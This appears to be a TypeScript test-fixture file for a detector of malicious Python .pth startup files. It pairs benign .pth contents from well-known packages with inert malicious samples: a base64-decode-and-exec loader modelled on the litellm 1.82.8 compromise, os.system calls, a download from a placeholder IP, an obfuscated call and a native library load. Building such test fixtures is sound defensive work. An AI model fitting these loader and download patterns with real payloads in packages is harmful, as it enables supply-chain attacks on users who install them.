// `.pth` files for tests: as well-known packages bring them, and as malicious ones do.

/** An inert look-alike of litellm 1.82.8's: a child process decodes its program, which only writes a canary file. */
export function lookAlike(canary: string): string {
  const program = Buffer.from(`open(${JSON.stringify(canary)}, "w").write("ran")`).toString('base64')
  const child = `import base64; exec(base64.b64decode('${program}'))`
  return `import os, subprocess, sys; subprocess.Popen([sys.executable, "-S", "-c", "${child}"]).wait()\n`
}

export const harmlessStartups: Record<string, string> = {
  'distutils-precedence.pth': `import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n`,
  '__editable__.demo-1.0.pth': 'import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()',
  'a1_coverage.pth': `import sys; exec('import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup(slug="pth")')\n`,
  'pytest-cov.pth': String.raw`import os, sys;exec('if \'COV_CORE_SOURCE\' in os.environ:\n try:\n  from pytest_cov.embed import init\n  init()\n except Exception as exc:\n  sys.stderr.write(\n   "pytest-cov: Failed to setup subprocess coverage. "\n   "Environ: {0!r} "\n   "Exception: {1!r}\\n".format(\n    dict((k, v) for k, v in os.environ.items() if k.startswith(\'COV_CORE\')),\n    exc\n   )\n  )\n')`,
  '_virtualenv.pth': 'import _virtualenv',
  'matplotlib-nspkg.pth': `import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('mpl_toolkits',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('mpl_toolkits', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('mpl_toolkits', [os.path.dirname(p)])));m = m or sys.modules.setdefault('mpl_toolkits', types.ModuleType('mpl_toolkits'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n`,
  'pywin32.pth':
    '# .pth file for the PyWin32 extensions\nwin32\nwin32/lib\nPythonwin\nimport pywin32_bootstrap\n',
  'easy-install.pth': `import sys; sys.__plen = len(sys.path)\n./demo.egg\nimport sys; new=sys.path[sys.__plen:]; del sys.path[sys.__plen:]; p=getattr(sys,'__egginsert',0); sys.path[p:p]=new; sys.__egginsert = p+len(new)\n`,
  'paths-that-sound.pth': '/srv/subprocess/base64\n/srv/exec(1)\n',
  'imports-alone.pth': 'import subprocess, base64\n',
  'commented.pth': '# import os; exec("x")\n',
}

export const maliciousStartups: Record<string, string> = {
  decodes: 'import base64; exec(base64.b64decode("cGFzcw=="))',
  'starts-process': 'import os; os.system("true")',
  connects: 'import urllib.request as u; u.urlretrieve("http://192.0.2.1/x", "x")',
  'loads-native': 'import ctypes; ctypes.CDLL("libx.so")',
  'opens-file': 'import builtins; builtins.open("x", "w")',
  hides: 'import os; getattr(__import__("o" + "s"), "sys" + "tem")("true")',
  'runs-text': 'import sys; exec("pass")',
  'long-line': `import sys; sys.x = "${'a'.repeat(1200)}"`,
}
